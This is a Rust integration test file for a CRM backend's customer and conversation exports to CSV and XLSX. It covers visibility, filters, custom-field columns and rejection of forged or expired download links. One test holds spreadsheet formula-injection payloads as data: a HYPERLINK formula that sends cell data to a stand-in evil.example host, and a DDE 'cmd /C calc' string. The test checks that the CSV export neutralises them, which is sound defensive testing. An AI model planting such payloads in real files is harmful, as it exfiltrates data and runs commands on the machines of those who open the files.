//! Exports of customers and conversations to XLSX and CSV: Chinese headers,
//! visibility and filters as in the lists, download links that work without
//! a bearer token but not when forged, expired or their user is gone.

use std::io::Cursor;

use calamine::Reader;
use guanxi_tests::{Backend, Company, Session, TestServer, backend_tests, company};
use sea_orm::ConnectionTrait;
use serde_json::{Value, json};

async fn create(s: &TestServer, who: &Session, input: Value) -> String {
    s.create_customer_with(who, input).await
}

async fn export(s: &TestServer, who: &Session, filter: Value, format: &str) -> Value {
    let r = s
        .gql(
            Some(&who.token),
            "mutation($f: CustomerFilter, $fmt: ExportFormat!) { exportCustomers(filter: $f, format: $fmt) { url fileName expiresAt rows } }",
            json!({ "f": filter, "fmt": format }),
        )
        .await;
    r.ok()["exportCustomers"].clone()
}

/// GET a link without any token; returns status, headers and body.
async fn fetch(s: &TestServer, url: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let resp = s.http.get(format!("{}{url}", s.base)).send().await.unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    (status, headers, resp.bytes().await.unwrap().to_vec())
}

fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    assert!(body.starts_with(b"\xEF\xBB\xBF"), "CSV starts with a byte-order mark");
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&body[3..]);
    r.records().map(|rec| rec.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn xlsx_rows(body: &[u8]) -> Vec<Vec<String>> {
    let mut book = calamine::open_workbook_auto_from_rs(Cursor::new(body.to_vec())).unwrap();
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    range.rows().map(|r| r.iter().map(|c| c.to_string()).collect()).collect()
}

fn names(rows: &[Vec<String>]) -> Vec<String> {
    let mut n: Vec<String> = rows[1..].iter().map(|r| r[1].clone()).collect();
    n.sort();
    n
}

async fn customer_exports_follow_visibility_and_filters(b: Backend) {
    let Company { s, admin, sp1, sp2, .. } = company(b).await;
    create(&s, &sp1, json!({ "name": "甲一", "phones": ["13812345678", "021-12345678"], "tags": ["重点", "展会"], "status": "INTENT" })).await;
    create(&s, &sp1, json!({ "name": "甲二", "company": "上海关系贸易", "gender": "FEMALE" })).await;
    create(&s, &sp2, json!({ "name": "乙一", "status": "INTENT" })).await;
    let other = s.sign_up("other").await;
    create(&s, &other, json!({ "name": "外人" })).await;

    // A salesperson's CSV: their own customers, Chinese headers and labels.
    let link = export(&s, &sp1, json!(null), "CSV").await;
    assert_eq!(link["rows"], 2);
    assert!(link["url"].as_str().unwrap().starts_with("/downloads/gxd_"));
    assert!(
        link["fileName"].as_str().unwrap().starts_with("客户_") && link["fileName"].as_str().unwrap().ends_with(".csv")
    );
    let (status, headers, body) = fetch(&s, link["url"].as_str().unwrap()).await;
    assert_eq!(status, 200);
    assert!(headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(disposition.starts_with("attachment;") && disposition.contains("filename*=UTF-8''%E5%AE%A2%E6%88%B7_"));
    let rows = csv_rows(&body);
    assert_eq!(rows[0][..5], ["客户编号", "姓名", "公司", "职务", "电话"]);
    assert_eq!(rows[0].len(), 19);
    assert_eq!(names(&rows), ["甲一", "甲二"]);
    let jia1 = rows.iter().find(|r| r[1] == "甲一").unwrap();
    assert_eq!(jia1[4], "13812345678、021-12345678");
    assert_eq!(jia1[9], "意向客户");
    assert_eq!(jia1[13], "重点、展会");
    assert!(!jia1[14].is_empty(), "the owner's name");
    assert!(jia1[0].starts_with("KH"));

    // An admin's XLSX, filtered: only the matching customers of the company.
    let link = export(&s, &admin, json!({ "status": "INTENT" }), "XLSX").await;
    assert_eq!(link["rows"], 2);
    let (status, headers, body) = fetch(&s, link["url"].as_str().unwrap()).await;
    assert_eq!(status, 200);
    assert_eq!(
        headers["content-type"].to_str().unwrap(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let rows = xlsx_rows(&body);
    assert_eq!(rows[0][1], "姓名");
    assert_eq!(names(&rows), ["乙一", "甲一"]);
    // Unfiltered: all four of this company, none of the other's.
    let rows = xlsx_rows(&fetch(&s, export(&s, &admin, json!(null), "XLSX").await["url"].as_str().unwrap()).await.2);
    assert_eq!(names(&rows), ["乙一", "甲一", "甲二"]);

    // Bad filters are refused as in the list; exports are audited.
    let r = s
        .gql(
            Some(&sp1.token),
            "mutation($f: CustomerFilter) { exportCustomers(filter: $f) { url } }",
            json!({ "f": { "ownerId": sp2.user_id } }),
        )
        .await;
    assert_eq!(r.code(), "VALIDATION_FAILED", "{:?}", r.error());
    assert_eq!(r.fields(), ["filter.ownerId"]);
    let r = s.gql(Some(&admin.token), "{ auditLog { action } }", json!({})).await;
    assert!(r.ok()["auditLog"].as_array().unwrap().iter().any(|e| e["action"] == "customer.export"));
}

async fn conversation_exports(b: Backend) {
    let Company { s, sp1, sp2, .. } = company(b).await;
    let mine = create(&s, &sp1, json!({ "name": "丙一" })).await;
    let theirs = create(&s, &sp2, json!({ "name": "丙二" })).await;
    for (who, c, topic) in [(&sp1, &mine, "报价"), (&sp2, &theirs, "合同")] {
        let r = s
            .gql(
                Some(&who.token),
                "mutation($i: AddConversationInput!) { addConversation(input: $i) { merged } }",
                json!({ "i": { "customerId": c, "topic": topic, "content": "第一行\n第二行, 带逗号", "kind": "CALL" } }),
            )
            .await;
        r.ok();
    }
    let r =
        s.gql(Some(&sp1.token), "mutation { exportConversations(format: CSV) { url rows fileName } }", json!({})).await;
    let link = r.ok()["exportConversations"].clone();
    assert_eq!(link["rows"], 1);
    assert!(link["fileName"].as_str().unwrap().starts_with("洽谈记录_"));
    let rows = csv_rows(&fetch(&s, link["url"].as_str().unwrap()).await.2);
    assert_eq!(rows[0], ["客户编号", "客户", "主题", "内容", "方式", "时间", "记录人", "记录时间"]);
    assert_eq!(rows.len(), 2);
    assert_eq!((rows[1][1].as_str(), rows[1][2].as_str(), rows[1][4].as_str()), ("丙一", "报价", "电话"));
    assert_eq!(rows[1][3], "第一行\n第二行, 带逗号");
    assert!(rows[1][0].starts_with("KH"));
}

async fn links_refuse_forgery_expiry_and_lost_rights(b: Backend) {
    let Company { s, admin, sp1, maint, .. } = company(b).await;
    create(&s, &sp1, json!({ "name": "丁一" })).await;
    let link = export(&s, &sp1, json!(null), "CSV").await;
    let url = link["url"].as_str().unwrap().to_owned();
    // It works more than once while it lasts.
    assert_eq!(fetch(&s, &url).await.0, 200);
    assert_eq!(fetch(&s, &url).await.0, 200);

    let token = url.trim_start_matches("/downloads/");
    let parts: Vec<&str> = token.splitn(3, '_').collect();
    let other = s.sign_up("other").await;
    let forged = [
        format!("/downloads/{}_{}_{}", parts[0], parts[1], "A".repeat(43)),
        format!("/downloads/{}_{}_{}", parts[0], other.tenant_id.replace('-', ""), parts[2]),
        format!("/downloads/gxs_{}_{}", parts[1], parts[2]),
        "/downloads/nonsense".to_owned(),
    ];
    for f in forged {
        let (status, _, body) = fetch(&s, &f).await;
        assert_eq!(status, 404, "{f}");
        let v: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(v["errors"][0]["extensions"]["code"], "NOT_FOUND");
    }
    // A session token is not a download link, and a link is not a session.
    let r = s.gql(Some(token), "{ me { user { id } } }", json!({})).await;
    assert_eq!(r.code(), "UNAUTHENTICATED");

    // Expired.
    let expired = export(&s, &sp1, json!(null), "XLSX").await;
    let db = s.db.connect_owner().await;
    db.execute_unprepared("UPDATE downloads SET expires_at = created_at").await.unwrap();
    assert_eq!(fetch(&s, expired["url"].as_str().unwrap()).await.0, 404);

    // A deactivated user's links stop working.
    let fresh = export(&s, &sp1, json!(null), "CSV").await;
    s.gql(Some(&admin.token), "mutation($id: ID!) { deactivateUser(id: $id) { id } }", json!({ "id": sp1.user_id }))
        .await
        .ok();
    assert_eq!(fetch(&s, fresh["url"].as_str().unwrap()).await.0, 404);

    // Maintenance staff see no customers, so they export none.
    let r = s.gql(Some(&maint.token), "mutation { exportCustomers { url } }", json!({})).await;
    assert_eq!(r.code(), "FORBIDDEN");
}

async fn custom_fields_are_columns_and_filters(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let define = "mutation($i: CustomFieldInput!) { createCustomField(entity: CUSTOMER, input: $i) { id } }";
    let level = json!({ "key": "level", "label": "客户级别", "type": "SINGLE_SELECT",
                        "rules": { "options": [{ "key": "a", "label": "重要" }, { "key": "b", "label": "一般" }] } });
    s.gql(Some(&admin.token), define, json!({ "i": level })).await.ok();
    let cost = json!({ "key": "cost", "label": "成本", "type": "DECIMAL",
                       "visibility": { "admin": "EDIT", "supervisor": "READ", "salesperson": "HIDDEN" } });
    s.gql(Some(&admin.token), define, json!({ "i": cost })).await.ok();
    create(&s, &sp1, json!({ "name": "甲一", "custom": { "level": "a" } })).await;
    let jia2 = create(&s, &sp1, json!({ "name": "甲二", "custom": { "level": "b" } })).await;
    s.gql(
        Some(&admin.token),
        "mutation($id: ID!) { updateCustomer(id: $id, input: { custom: { cost: \"9.5\" } }) { id } }",
        json!({ "id": jia2 }),
    )
    .await
    .ok();

    // Custom fields follow the built-in columns, labelled, values as text;
    // a field hidden from the caller is not exported.
    let link = export(&s, &sp1, json!({ "custom": [{ "key": "level", "op": "EQ", "value": "重要" }] }), "CSV").await;
    assert_eq!(link["rows"], 1);
    let rows = csv_rows(&fetch(&s, link["url"].as_str().unwrap()).await.2);
    assert_eq!(rows[0].len(), 20);
    assert_eq!(rows[0][19], "客户级别");
    assert_eq!((rows[1][1].as_str(), rows[1][19].as_str()), ("甲一", "重要"));
    let rows = xlsx_rows(&fetch(&s, export(&s, &admin, json!(null), "XLSX").await["url"].as_str().unwrap()).await.2);
    assert_eq!(rows[0][19..], ["客户级别", "成本"]);
    let jia2 = rows.iter().find(|r| r[1] == "甲二").unwrap();
    assert_eq!(jia2[19..], ["一般", "9.50"]);
}

/// Values a spreadsheet would run as formulas are neutralised in CSV (a
/// leading `'`, every field quoted), in customer and conversation exports;
/// the XLSX export keeps them as they are, as text cells.
async fn csv_exports_neutralise_formulas(b: Backend) {
    let Company { s, sp1, .. } = company(b).await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let calc = "+cmd|' /C calc'!A0";
    let id = create(
        &s,
        &sp1,
        json!({ "name": hyperlink, "company": calc, "title": "-5", "address": "@SUM(1)", "phones": ["+852 9123 4567"] }),
    )
    .await;
    let r = s
        .gql(
            Some(&sp1.token),
            "mutation($i: AddConversationInput!) { addConversation(input: $i) { merged } }",
            json!({ "i": { "customerId": id, "topic": "=1+1", "content": "-2+3", "kind": "CALL" } }),
        )
        .await;
    r.ok();

    let (_, _, body) = fetch(&s, export(&s, &sp1, json!(null), "CSV").await["url"].as_str().unwrap()).await;
    let text = String::from_utf8(body.clone()).unwrap();
    assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#), "{text}");
    assert!(text.contains(r#""'+cmd|' /C calc'!A0""#), "{text}");
    assert!(text.lines().all(|l| l.trim_start_matches('\u{feff}').starts_with('"')), "every field quoted: {text}");
    let rows = csv_rows(&body);
    let row = &rows[1];
    assert_eq!(row[1], format!("'{hyperlink}"));
    assert_eq!(row[2], format!("'{calc}"));
    // Numbers and phone numbers too: OWASP's rule, without exceptions.
    assert_eq!(row[3], "'-5");
    assert!(row[4].starts_with("'+852"), "{}", row[4]);
    assert_eq!(row[6], "'@SUM(1)");
    assert!(!row[0].starts_with('\''), "a number like KH… is left alone");

    let r = s.gql(Some(&sp1.token), "mutation { exportConversations(format: CSV) { url } }", json!({})).await;
    let rows = csv_rows(&fetch(&s, r.ok()["exportConversations"]["url"].as_str().unwrap()).await.2);
    assert_eq!((rows[1][1].as_str(), rows[1][2].as_str()), (format!("'{hyperlink}").as_str(), "'=1+1"));
    assert_eq!(rows[1][3], "'-2+3");

    // XLSX cells are text, never formulas: the values as they are.
    let rows = xlsx_rows(&fetch(&s, export(&s, &sp1, json!(null), "XLSX").await["url"].as_str().unwrap()).await.2);
    assert_eq!((rows[1][1].as_str(), rows[1][2].as_str(), rows[1][3].as_str()), (hyperlink, calc, "-5"));
}

backend_tests!(
    csv_exports_neutralise_formulas,
    custom_fields_are_columns_and_filters,
    customer_exports_follow_visibility_and_filters,
    conversation_exports,
    links_refuse_forgery_expiry_and_lost_rights,
);
